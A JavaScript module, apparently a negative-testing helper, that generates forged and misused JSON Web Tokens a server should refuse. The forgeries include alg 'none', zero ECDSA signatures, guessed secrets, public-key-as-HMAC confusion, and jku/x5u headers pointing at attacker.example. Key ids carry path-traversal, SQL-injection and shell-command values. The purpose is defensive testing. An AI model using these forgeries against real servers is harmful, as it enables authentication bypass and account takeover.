/**
 * Tokens that a server must refuse, made from a good one: what is in the books about attacks on JSON Web Tokens
 * (RFC 8725, OWASP's cheat sheet, the known advisories). Plain data, so that any program can send them.
 */
import {
  createHmac,
  createPublicKey,
  generateKeyPairSync,
  randomBytes,
  randomUUID,
  sign as signWith,
} from 'node:crypto';

const HASHES = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' };

const encode = (value) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
const decode = (part) => JSON.parse(Buffer.from(part, 'base64url').toString());
const hmac = (header, claims, key) => {
  const signed = `${encode(header)}.${encode(claims)}`;
  return `${signed}.${createHmac(HASHES[header.alg], key).update(signed).digest('base64url')}`;
};

/**
 * Made without any key of the server's.
 *
 * @param {object} given
 * @param {string} given.token an access token that the server accepts
 * @param {object[]} [given.publicKeys] the keys of its /.well-known/jwks.json
 * @param {string} [given.refreshToken]
 * @returns {{ name: string, token: string }[]}
 */
export function forgedTokens({ token, publicKeys = [], refreshToken }) {
  const parts = token.split('.');
  const [header, claims] = [decode(parts[0]), decode(parts[1])];
  const good = { header, claims, parts };
  return [
    ...withoutSignature(good),
    ...withWrongSignature(good),
    ...withAnotherText(good),
    ...withGuessedSecret(good),
    ...withTrickyKeyId(good),
    ...withForeignKey(good),
    ...publicKeys.flatMap((key, i) => withPublicKeyAsSecret(good, key, i)),
    ...withAnotherForm(good, token),
    ...(refreshToken === undefined ? [] : [{ name: 'a refresh token', token: refreshToken }]),
  ];
}

/**
 * Signed by the server's own key, yet not to be accepted: made for somebody else, for another use, or for another time.
 *
 * @param {object} given
 * @param {string} given.token an access token that the server accepts
 * @param {(header: object, claims: unknown) => string} given.sign makes a token with the server's key
 * @returns {{ name: string, token: string }[]}
 */
export function misusedTokens({ token, sign }) {
  const [header, claims] = token.split('.').slice(0, 2).map(decode);
  const now = Math.floor(Date.now() / 1000);
  const wrongClaims = {
    'another issuer': { iss: 'elsewhere' },
    'no issuer': { iss: undefined },
    'a list of issuers with ours in it': { iss: [claims.iss] },
    'an issuer that is null': { iss: null },
    'another audience': { aud: 'elsewhere' },
    'no audience': { aud: undefined },
    'an audience that is null': { aud: null },
    'ours among other audiences': { aud: ['elsewhere', claims.aud] },
    'an end in the past': { exp: now - 1 },
    'an end at this moment': { exp: now },
    'no end': { exp: undefined },
    'an end that is a text': { exp: String(claims.exp) },
    'an end that is null': { exp: null },
    'an end that is a list': { exp: [claims.exp] },
    'a beginning in the future': { nbf: now + 60 },
    'a beginning that is a text': { nbf: 'now' },
    'been made far in the future': { iat: now + 3600, exp: now + 7200 },
    'been made at no time': { iat: undefined },
    'been made at a time that is a text': { iat: 'now' },
    'no subject': { sub: undefined },
    'a subject that is null': { sub: null },
    'an empty subject': { sub: '' },
    'a subject that is no id': { sub: 'ada' },
    'a subject in upper case': { sub: claims.sub.toUpperCase() },
    'a list of subjects': { sub: [claims.sub] },
    'no sign-in': { sid: undefined },
    'a sign-in that is no id': { sid: `${claims.sid}' or true` },
  };
  const wrongHeaders = {
    'the type JWT': { typ: 'JWT' },
    'no type': { typ: undefined },
    'a type that is a list': { typ: [header.typ] },
    'the type of another kind of token of the same server': { typ: 'second-factor+jwt' },
    'no key id': { kid: undefined },
    'its type in upper case': { typ: header.typ.toUpperCase() },
    'its type written as a media type': { typ: `application/${header.typ}` },
    'a critical header that nobody knows': { crit: ['admin'], admin: true },
    'a critical header that it has not': { crit: ['exp'] },
    'an empty list of critical headers': { crit: [] },
    'a payload that is said not to be encoded': { crit: ['b64'], b64: false },
    'a payload that is said not to be encoded, without crit': { b64: false },
    'a payload that is said to be compressed': { zip: 'DEF' },
    'a payload that is said to be a token': { cty: 'JWT' },
    'a header that ours do not have': { x: 1 },
  };
  const wrongPayloads = { null: null, 'a list': [claims], 'a text': '"text"', 'no JSON': '{"sub":' };
  const named = (prefix, table, make) =>
    Object.entries(table).map(([name, value]) => ({ name: `${prefix} ${name}`, token: make(value) }));
  return [
    ...named('signed by the server, with', wrongClaims, (other) => sign(header, { ...claims, ...other })),
    ...named('signed by the server, with', wrongHeaders, (other) => sign({ ...header, ...other }, claims)),
    ...named('signed by the server, with a payload that is', wrongPayloads, (payload) => sign(header, payload)),
  ];
}

function withoutSignature({ header, parts }) {
  const algorithms = ['none', 'None', 'NONE', 'nOnE', ' none', '', null, 0, ['none'], [header.alg], undefined];
  return [
    ...algorithms.map((alg) => ({
      name: `alg ${JSON.stringify(alg)} without signature`,
      token: `${encode({ ...header, alg })}.${parts[1]}.`,
    })),
    { name: 'alg none with the old signature', token: `${encode({ ...header, alg: 'none' })}.${parts[1]}.${parts[2]}` },
    { name: 'an empty signature', token: `${parts[0]}.${parts[1]}.` },
    {
      name: 'two algorithms in one header',
      token: `${encode(`{"alg":"none",${JSON.stringify(header).slice(1)}`)}.${parts[1]}.`,
    },
  ];
}

function withWrongSignature({ header, parts }) {
  const signature = Buffer.from(parts[2], 'base64url');
  const flipped = Buffer.from(signature);
  flipped[0] ^= 1;
  const others = {
    'zeros as signature': Buffer.alloc(signature.length),
    'a random signature': randomBytes(signature.length),
    'one bit of the signature turned': flipped,
    'a signature that is a byte short': signature.subarray(0, -1),
    'a signature that is a byte long': Buffer.concat([signature, Buffer.alloc(1)]),
  };
  return [
    ...Object.entries(others).map(([name, bytes]) => ({
      name,
      token: `${parts[0]}.${parts[1]}.${bytes.toString('base64url')}`,
    })),
    // CVE-2022-21449: an ECDSA signature of zeros was good for everything.
    {
      name: 'ES256 with a signature of zeros',
      token: `${encode({ ...header, alg: 'ES256' })}.${parts[1]}.${Buffer.alloc(64).toString('base64url')}`,
    },
  ];
}

function withAnotherText({ header, claims, parts }) {
  const payload = (other) => `${parts[0]}.${encode({ ...claims, ...other })}.${parts[2]}`;
  const head = (other) => `${encode({ ...header, ...other })}.${parts[1]}.${parts[2]}`;
  return [
    { name: 'another user under the signature', token: payload({ sub: randomUUID() }) },
    { name: 'a later end under the signature', token: payload({ exp: claims.exp + 86_400 }) },
    { name: 'another right under the signature', token: payload({ scope: 'admin', role: 'admin' }) },
    { name: 'another header over the signature', token: head({ x: 1 }) },
    { name: 'another algorithm over the signature', token: head({ alg: header.alg === 'HS256' ? 'RS256' : 'HS256' }) },
  ];
}

function withGuessedSecret({ header, claims }) {
  const secrets = ['', ' ', '\0', 'secret', 'your-256-bit-secret', 'changeme', 'null', 'undefined', claims.iss];
  return [
    ...secrets.map((key) => ({
      name: `HS256 with the secret ${JSON.stringify(key)}`,
      token: hmac({ ...header, alg: 'HS256' }, claims, key),
    })),
    ...['HS384', 'HS512'].map((alg) => ({
      name: `${alg} with the key id as secret`,
      token: hmac({ ...header, alg }, claims, String(header.kid)),
    })),
  ];
}

function withTrickyKeyId({ header, claims }) {
  const { kid } = header;
  const ids = {
    'a path to an empty file': ['/dev/null', ''],
    'a relative path to an empty file': ['../../../../../../dev/null', ''],
    'a path to a file that everybody knows': ['/proc/sys/kernel/randomize_va_space', '2'],
    'an address': ['http://127.0.0.1/key', ''],
    'SQL that gives a key': ["x' UNION SELECT 'key' -- ", 'key'],
    'a command': ['x; echo key |', 'key'],
    'an unknown id': ['unknown', 'key'],
    'a word of the language': ['__proto__', ''],
    'another word of the language': ['constructor', ''],
    'an empty text': ['', ''],
    'a number': [0, ''],
    null: [null, ''],
    'a list with the right one': [[kid], ''],
    'an object with the right one': [{ kid }, ''],
    'the right one and a NUL': [`${kid}\0`, ''],
  };
  return [
    ...Object.entries(ids).map(([name, [id, key]]) => ({
      name: `a key id that is ${name}`,
      token: hmac({ ...header, alg: 'HS256', kid: id }, claims, key),
    })),
    { name: 'no key id', token: hmac({ ...header, alg: 'HS256', kid: undefined }, claims, 'key') },
  ];
}

function withForeignKey({ header, claims }) {
  const pairs = {
    RS256: [generateKeyPairSync('rsa', { modulusLength: 2048 }), 'sha256'],
    EdDSA: [generateKeyPairSync('ed25519'), null],
    ES256: [generateKeyPairSync('ec', { namedCurve: 'P-256' }), 'sha256'],
  };
  return Object.entries(pairs).flatMap(([alg, [{ privateKey, publicKey }, hash]]) => {
    const jwk = publicKey.export({ format: 'jwk' });
    const certificate = publicKey.export({ format: 'der', type: 'spki' }).toString('base64');
    const headers = {
      'a foreign key under our id': {},
      'a foreign key that it brings along (jwk)': { jwk: { ...jwk, kid: header.kid } },
      'a foreign key and its own id (jwk)': { jwk: { ...jwk, kid: 'mine' }, kid: 'mine' },
      'the address of a foreign key set (jku)': { jku: 'https://attacker.example/jwks.json' },
      'the address of a foreign certificate (x5u)': { x5u: 'https://attacker.example/certificate.pem' },
      'a foreign certificate (x5c)': { x5c: [certificate] },
    };
    return Object.entries(headers).map(([name, other]) => {
      const signed = `${encode({ ...header, alg, ...other })}.${encode(claims)}`;
      const signature = signWith(hash, Buffer.from(signed), { key: privateKey, dsaEncoding: 'ieee-p1363' });
      return { name: `${alg} with ${name}`, token: `${signed}.${signature.toString('base64url')}` };
    });
  });
}

/** Confusion: what is public is used as the secret of an HMAC, under the id of the key that it belongs to. */
function withPublicKeyAsSecret({ header, claims }, jwk, i) {
  const key = createPublicKey({ key: jwk, format: 'jwk' });
  const pem = key.export({ format: 'pem', type: 'spki' });
  const secrets = {
    'as PEM': pem,
    'as PEM without the last line end': pem.trimEnd(),
    'as DER': key.export({ format: 'der', type: 'spki' }),
    'as JSON': JSON.stringify(jwk),
    'as its bare number': Buffer.from(jwk.x ?? jwk.n, 'base64url'),
    'as the text of that number': jwk.x ?? jwk.n,
    'as its thumbprint': jwk.kid,
  };
  return Object.entries(secrets).flatMap(([name, secret]) =>
    ['HS256', 'HS512'].map((alg) => ({
      name: `${alg} with public key ${i + 1} ${name}`,
      token: hmac({ ...header, alg, kid: jwk.kid }, claims, secret),
    })),
  );
}

function withAnotherForm({ parts }, token) {
  const [header, payload, signature] = parts;
  const asJson = JSON.stringify({ payload, signatures: [{ protected: header, signature }] });
  return Object.entries({
    nothing: '',
    'nothing but dots': '..',
    'one dot more': `${token}.`,
    'two parts': `${header}.${payload}`,
    'the payload left out': `${header}.${signature}`,
    'five parts': `${token}.${payload}.${signature}`,
    'the token twice': `${token}${token}`,
    'padding after the signature': `${token}=`,
    'padding after the header': `${header}=.${payload}.${signature}`,
    'stray bits at the end of the signature': `${token.slice(0, -1)}${strayBits(token)}`,
    'a character that is no base64url': `${header}.${payload}!.${signature}`,
    'a token inside a token': `${encode({ alg: 'none', cty: 'JWT' })}.${encode(token)}.`,
    'the JSON form': encode(asJson),
    'a header that is no JSON': `${encode('x')}.${payload}.${signature}`,
    'a header that is null': `${encode('null')}.${payload}.${signature}`,
    'a header that is a list': `${encode('[]')}.${payload}.${signature}`,
  }).map(([name, text]) => ({ name, token: text }));
}

/** Another last character for the same bytes where the encoding leaves bits over, else just another one. */
function strayBits(token) {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  return alphabet[alphabet.indexOf(token.at(-1)) ^ 1];
}
